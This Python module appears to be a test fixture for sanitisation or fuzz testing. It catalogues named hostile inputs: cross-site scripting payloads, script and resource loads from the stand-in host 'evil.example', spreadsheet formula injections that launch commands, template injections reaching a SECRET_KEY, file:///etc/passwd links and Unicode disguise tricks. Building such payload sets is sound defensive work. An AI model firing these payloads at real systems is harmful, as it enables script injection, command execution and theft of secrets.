"""Words that mean harm, by name. Whatever runs in a browser would open a dialog or ask another host."""

from __future__ import annotations

from collections.abc import Sequence

RUN = "alert(1)"
HOST = "evil.example"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src=//{HOST}/x.js></script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script with a blank": f"<script >{RUN}</script >",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a textarea": f"</textarea><script>{RUN}</script>",
    "end of a select": f"</option></select><img src=x onerror={RUN}>",
    "end of a style": f"</style><script>{RUN}</script>",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "end of a cell": f"</td></tr></table><svg onload={RUN}>",
    "end of character data": f"]]><script>{RUN}</script>",
    "module": f'<script type=module>import("//{HOST}/m.js")</script>',
}
HANDLERS = {
    "image that fails": f"<img src=x onerror={RUN}>",
    "image of a data address": f"<img src=data:, onerror={RUN}>",
    "body": f"<body onload={RUN}>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "details": f"<details open ontoggle={RUN}>",
    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    "video": f"<video><source onerror={RUN}>",
    "audio": f"<audio src=x onerror={RUN}>",
    "popover": f"<button popovertarget=x autofocus onfocus={RUN}>",
    "custom element": f"<x-y onfocus={RUN} tabindex=1 autofocus>",
    "slash for a blank": f"<img/src=x/onerror={RUN}>",
    "line for a blank": f"<img\nsrc=x\nonerror={RUN}>",
    "htmx": f'<b hx-get="//{HOST}/h" hx-trigger=load>',
    "htmx that evaluates": f'<b hx-on:htmx:load="{RUN}" data-hx-get="/" hx-trigger=load>',
}
ATTRIBUTES = {
    "out of double quotes": f'" autofocus onfocus={RUN} x="',
    "out of single quotes": f"' autofocus onfocus={RUN} x='",
    "out of no quotes": f"x autofocus onfocus={RUN}",
    "out of an element": f'"><svg onload={RUN}>',
    "out of an element in single quotes": f"'><svg onload={RUN}>",
    "out of a string of a script": f"';{RUN};//",
    "out of a string in double quotes": f'";{RUN};//',
    "out of a template string": f"${{{RUN}}}`",
    "out of JSON": f'"}}]}}</script><script>{RUN}</script>',
    "address that runs": f"javascript:{RUN}",
    "address that runs, with a tab": f"java\tscript:{RUN}",
    "address that runs, as a link": f'<a href="javascript:{RUN}" autofocus>x</a>',
    "address of data": f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "page within": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
}
OTHER = {
    "drawing": f"<svg onload={RUN}>",
    "drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "drawing that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "drawing used from elsewhere": f'<svg><use href="//{HOST}/u.svg#x"/></svg>',
    "formula that hides": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "style of elsewhere": f'<style>@import "//{HOST}/s.css";*{{background:url(//{HOST}/b)}}</style>',
    "sheet of elsewhere": f"<link rel=stylesheet href=//{HOST}/l.css>",
    "style on an element": f'<b style="background:url(//{HOST}/i)">x</b>',
    "picture of elsewhere": f'<img src="//{HOST}/p.png">',
    "page to go to": f'<meta http-equiv=refresh content="0;url=//{HOST}/">',
    "base of addresses": f'<base href="//{HOST}/">',
    "form to elsewhere": f'<form action="//{HOST}/"><button autofocus>x</button></form>',
    "object": f'<object data="//{HOST}/o"></object><embed src="//{HOST}/e">',
    "file attached": '<link rel=attachment href="file:///etc/passwd"><a rel=attachment href="file:///etc/passwd">',
    "template of Django": '{{ settings.SECRET_KEY }}{% load static %}{% include "base.html" %}',
    "template of others": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{{constructor.constructor('alert(1)')()}}",
    "percent signs": "%s%n%(x)s%%{0}{name}{0.__class__}",
}
SHEETS = {
    "formula": '=HYPERLINK("https://evil.example/","x")',
    "formula twice": "==1+1",
    "formula that runs": "=cmd|'/C calc'!A0",
    "formula by plus": "+1+cmd|'/C calc'!A0",
    "formula by minus": "-1+cmd|'/C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line": "\r\n=1+1",
    "markup of a workbook": "<r><t>x</t></r></si><si><t>y</t></si><si><r><t>z</t></r>",
    "formula in wide letters": "＝1+1",
}
CHARACTERS = {
    "right to left": "safe \u202egpj.exe\u202c \u2066x\u2069",
    "zero width": "ze\u200bro\u200d wi\u2060dth\ufeff",
    "marks in a stack": "a" + "\u0301\u0321\u0489" * 40,
    "lines of their own": f"x\u2028{RUN}\u2029\x85y",
    "letters that fold to markup": f"＜script＞{RUN}＜/script＞ ﹤svg onload={RUN}﹥",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;svg onload={RUN}&#62; &amp;lt;",
    "backslashes": f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e\\",
    "halves of letters": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041 \ufffe",
    "controls": "bell\x07 escape\x1b[31m delete\x7f",
    "long word": "W" * 300,
}
NOUGHT = {"a nought": f"nought\0<script>{RUN}</script>"}
"""What no database keeps: forms alone meet it."""

KEPT = MARKUP | HANDLERS | ATTRIBUTES | OTHER | SHEETS | CHARACTERS
PAYLOADS = KEPT | NOUGHT


def fitting(texts: Sequence[str], turn: int, most: int) -> str:
    """As many as fit into so many characters, beginning with that turn; cut short where not even one does."""
    found = texts[turn % len(texts)][:most]
    for place in range(turn + 1, turn + len(texts)):
        longer = f"{found} {texts[place % len(texts)]}"
        if len(longer) > most:
            break
        found = longer
    return found
